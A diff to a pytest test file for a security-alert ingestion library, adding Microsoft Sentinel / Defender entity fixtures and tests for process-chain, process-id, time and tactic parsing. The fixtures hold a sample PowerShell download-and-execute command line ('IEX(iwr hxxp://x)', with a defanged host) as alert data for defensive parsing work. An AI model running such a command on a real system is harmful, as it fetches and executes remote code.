@@ -11,9 +11,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from tierzero.ingest.adapters.sentinel import SentinelAdapter
+from tierzero.ingest.adapters.sentinel import SentinelAdapter, process_id
 from tierzero.ingest.alert import Alert, EntityKind, Severity
-from tierzero.ingest.base import ParseContext, RecordRejected
+from tierzero.ingest.base import FLAG_TIME_ASSUMED_UTC, ParseContext, RecordRejected
 from tierzero.ingest.quarantine import QuarantinedRecord
 from tierzero.ingest.reader import read
 from tierzero.ingest.registry import ADAPTERS
@@ -256,6 +256,207 @@ def test_plain_comma_techniques_from_older_rows() -> None:
     assert alert.tactics == ("Credential Access", "Initial Access")
 
 
+# ---------------------------------------------------------------- the detected process
+#
+# Composed after the documented shape: "Microsoft Sentinel entity types reference" (Process:
+# ProcessId as a string, CommandLine, CreationTimeUtc, ImageFile, ParentProcess, Account, Host;
+# File: Directory + Name + FileHashes; references as {"$ref": id}) as Defender for Endpoint
+# alerts land in SecurityAlert: the parent listed first, ProcessId in hex, each entity written
+# inline where first met and referenced after that.
+
+LEAF_ENTITIES: list[dict[str, Any]] = [
+    {
+        "$id": "3",
+        "ProcessId": "0x1008",
+        "CommandLine": '"cmd.exe" /c powershell -nop -w hidden -c "IEX(iwr hxxp://x)"',
+        "ElevationToken": "Default",
+        "CreationTimeUtc": "2026-11-16T09:01:58.1234567Z",
+        "ImageFile": {
+            "$id": "4",
+            "Directory": "C:\\Windows\\System32",
+            "Name": "cmd.exe",
+            "FileHashes": [
+                {
+                    "$id": "5",
+                    "Algorithm": "SHA1",
+                    "Value": "ded8fd7f36417f66eb6ada10e0c0d7c0022986e9",
+                    "Type": "filehash",
+                }
+            ],
+            "Type": "file",
+        },
+        "ParentProcess": {
+            "$id": "6",
+            "ProcessId": "0x11b8",
+            "CommandLine": "C:\\Windows\\Explorer.EXE",
+            "ImageFile": {
+                "$id": "7",
+                "Directory": "C:\\Windows",
+                "Name": "explorer.exe",
+                "Type": "file",
+            },
+            "Type": "process",
+        },
+        "Account": {
+            "$id": "8",
+            "Name": "alice.martin",
+            "NTDomain": "NORTHWIND",
+            "Sid": "S-1-5-21-1004336348-1177238915-682003330-1104",
+            "Type": "account",
+        },
+        "Host": {
+            "$id": "9",
+            "HostName": "lt-fin-042",
+            "DnsDomain": "northwind.example",
+            "OSFamily": "Windows",
+            "Type": "host",
+        },
+        "Type": "process",
+    },
+    {
+        "$id": "10",
+        "ProcessId": "0x1c90",
+        "CommandLine": 'powershell  -nop -w hidden -c "IEX(iwr hxxp://x)"',
+        "ImageFile": {
+            "$id": "11",
+            "Directory": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+            "Name": "powershell.exe",
+            "Type": "file",
+        },
+        "ParentProcess": {"$ref": "3"},
+        "Account": {"$ref": "8"},
+        "Host": {"$ref": "9"},
+        "Type": "process",
+    },
+    {"$ref": "4"},
+    {"$ref": "7"},
+    {"$ref": "8"},
+    {"$ref": "9"},
+    {"$ref": "11"},
+]
+
+
+def test_the_detected_process_is_the_leaf_even_when_its_parent_is_listed_first() -> None:
+    alert = _parse(_mdatp_row(LEAF_ENTITIES))
+    process = alert.process
+    assert process is not None
+    assert (process.name, process.pid) == ("powershell.exe", 0x1C90)
+    assert process.cmd_line == LEAF_ENTITIES[1]["CommandLine"]
+    assert process.user == "NORTHWIND\\alice.martin"
+    parent = process.parent_process
+    assert parent is not None
+    assert (parent.name, parent.pid) == ("cmd.exe", 0x1008)  # hex ProcessId read, not dropped
+    assert parent.cmd_line == LEAF_ENTITIES[0]["CommandLine"]
+    assert parent.file is not None
+    assert parent.file.sha1 == "ded8fd7f36417f66eb6ada10e0c0d7c0022986e9"
+    grandparent = parent.parent_process  # defined only inline, under cmd.exe
+    assert grandparent is not None
+    assert (grandparent.name, grandparent.pid) == ("explorer.exe", 0x11B8)
+    assert grandparent.parent_process is None
+    names = {o.value: o.name for o in alert.observables if o.kind is EntityKind.COMMAND_LINE}
+    assert names[LEAF_ENTITIES[1]["CommandLine"]] == "process.cmd_line"
+    assert names[LEAF_ENTITIES[0]["CommandLine"]] == "process.parent_process.cmd_line"
+    assert alert.device is not None and alert.device.hostname == "lt-fin-042"  # via Host $ref
+
+
+def test_image_files_carry_the_full_path_and_the_folder() -> None:
+    process = _parse(_mdatp_row(LEAF_ENTITIES)).process
+    assert process is not None and process.file is not None
+    assert process.file.path == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+    assert process.file.parent_folder == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"
+
+
+def test_a_file_entity_that_is_no_image_is_the_alerts_file() -> None:
+    dropped = {
+        "$id": "20",
+        "Directory": "C:\\Users\\alice.martin\\AppData\\Roaming\\Microsoft\\invsvc",
+        "Name": "invsvc.exe",
+        "Type": "file",
+    }
+    file = _parse(_mdatp_row([*LEAF_ENTITIES, dropped])).file
+    assert file is not None
+    assert file.path == ("C:\\Users\\alice.martin\\AppData\\Roaming\\Microsoft\\invsvc\\invsvc.exe")
+    assert file.parent_folder == "C:\\Users\\alice.martin\\AppData\\Roaming\\Microsoft\\invsvc"
+    only_images = _parse(_mdatp_row(LEAF_ENTITIES)).file  # then the detected process's image
+    assert only_images is not None and only_images.name == "powershell.exe"
+
+
+def test_among_several_leaves_the_one_with_known_ancestry_wins() -> None:
+    lone = {"$id": "30", "ProcessId": "0x4", "CommandLine": "System", "Type": "process"}
+    alert = _parse(_mdatp_row([lone, *LEAF_ENTITIES]))
+    assert alert.process is not None and alert.process.name == "powershell.exe"
+    assert "System" in alert.values(EntityKind.COMMAND_LINE)  # still an observable
+
+
+def test_the_detected_process_names_the_device_over_the_first_host() -> None:
+    other = {"$id": "40", "HostName": "dc-01", "Type": "host"}
+    alert = _parse(_mdatp_row([other, *LEAF_ENTITIES]))
+    assert alert.device is not None and alert.device.hostname == "lt-fin-042"
+    assert set(alert.values(EntityKind.HOST)) == {"lt-fin-042", "dc-01"}
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("0x1008", 4104),
+        ("0X1C90", 7312),
+        (" 0x1c90 ", 7312),
+        ("4104", 4104),
+        (4104, 4104),
+        ("0x", None),
+        ("0x1g", None),
+        ("-1", None),
+        (-1, None),
+        ("12abc", None),
+        ("１２", None),  # full-width digits are no process id
+        (True, None),
+        (4.5, None),
+        ("0x" + "f" * 17, None),
+        ("9" * 25, None),
+        (None, None),
+    ],
+)
+def test_process_ids_in_decimal_or_hex(value: Any, expected: int | None) -> None:
+    assert process_id(value) == expected
+
+
+# ---------------------------------------------------------------- time and tactics
+
+
+@pytest.mark.parametrize(
+    "stamp",
+    ["2026-11-16T08:56:47.331", "2026-11-16 08:56:47.331000", "2026-11-16T08:56:47.3310000"],
+)
+def test_zone_less_time_generated_is_read_as_utc_and_flagged(stamp: str) -> None:
+    # Log Analytics datetimes are UTC (Azure Monitor Logs table reference, SecurityAlert);
+    # CSV exports and pandas round-trips write them without the "Z".
+    alert = _parse(_with(_records()[0], TimeGenerated=stamp, StartTime="2026-11-16 08:55:58"))
+    assert alert.time == datetime(2026, 11, 16, 8, 56, 47, 331000, tzinfo=UTC)
+    assert alert.finding_info.first_seen_time == datetime(2026, 11, 16, 8, 55, 58, tzinfo=UTC)
+    assert alert.flags == (FLAG_TIME_ASSUMED_UTC,)
+    assert alert.metadata.original_time == stamp
+
+
+def test_times_with_a_zone_are_not_flagged() -> None:
+    assert all(a.flags == () for a in _alerts())
+
+
+@pytest.mark.parametrize(
+    ("tactics", "expected"),
+    [
+        ("PreAttack", ()),
+        ("Unknown", ()),
+        ("InitialAccess, PreAttack", ("Initial Access",)),
+        ("CommandAndControl", ("Command and Control",)),
+        ("ImpairProcessControl, Exfiltration", ("Exfiltration",)),  # an ICS tactic: not here
+    ],
+)
+def test_only_real_attack_tactics_are_kept(tactics: str, expected: tuple[str, ...]) -> None:
+    alert = _parse(_with(_records()[0], Tactics=tactics))
+    assert alert.tactics == expected
+    assert all(a.tactic_uid for a in alert.finding_info.attacks if a.tactic_name)
+
+
 # ---------------------------------------------------------------- auto-detection
 
 
@@ -414,9 +615,9 @@ def test_incident_rows_are_rejected() -> None:
     assert reason == "row is an incident (a grouping of alerts), not an alert"
 
 
-def test_time_without_zone_or_garbage_is_rejected() -> None:
-    assert _reject(_with(_records()[0], TimeGenerated="2026-11-16T09:00:00")) == (
-        "field 'TimeGenerated' has no time zone: '2026-11-16T09:00:00'"
+def test_garbage_time_is_rejected() -> None:
+    assert _reject(_with(_records()[0], TimeGenerated="2026-11-16T25:00:00")) == (
+        "field 'TimeGenerated' is not a valid time: '2026-11-16T25:00:00'"
     )
     assert _reject(_with(_records()[0], StartTime="yesterday")) == (
         "field 'StartTime' is not a valid time: 'yesterday'"
